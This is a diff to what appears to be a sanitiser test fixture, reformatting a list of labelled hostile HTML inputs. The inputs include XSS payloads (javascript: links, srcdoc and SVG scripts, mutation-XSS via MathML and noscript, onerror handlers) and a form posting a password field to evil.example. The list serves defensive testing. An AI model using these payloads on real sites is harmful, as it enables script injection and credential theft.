@@ -8,7 +8,10 @@ export const hostile: readonly [string, string][] = [
   ['a javascript: link cut by a line break', '<a href="java\nscript:alert(1)">text</a>'],
   ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">text</a>'],
   ['a foreign frame', '<iframe src="https://evil.example/embed/abc"></iframe>text'],
-  ['a frame that only looks allowed', '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/abc"></iframe>text'],
+  [
+    'a frame that only looks allowed',
+    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/abc"></iframe>text',
+  ],
   ['a frame with a document of its own', '<iframe srcdoc="<script>alert(1)</script>"></iframe>text'],
   ['an svg with a script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>text'],
   ['mathml that hides markup', 'text<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>'],
@@ -18,7 +21,10 @@ export const hostile: readonly [string, string][] = [
   ['a form', '<form action="https://evil.example"><input name="password"><button>text</button></form>'],
   ['a base address', '<base href="https://evil.example/">text'],
   ['a comment', '<!--<img src=x onerror=alert(1)>-->text'],
-  ['a noscript that changes its meaning', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>text'],
+  [
+    'a noscript that changes its meaning',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>text',
+  ],
   ['a template', '<template><script>alert(1)</script></template>text'],
   ['an id that shadows the page', '<p id="root" class="x" name="y">text</p>'],
   ['an unfinished tag', 'text<img src=x onerror=alert(1)'],
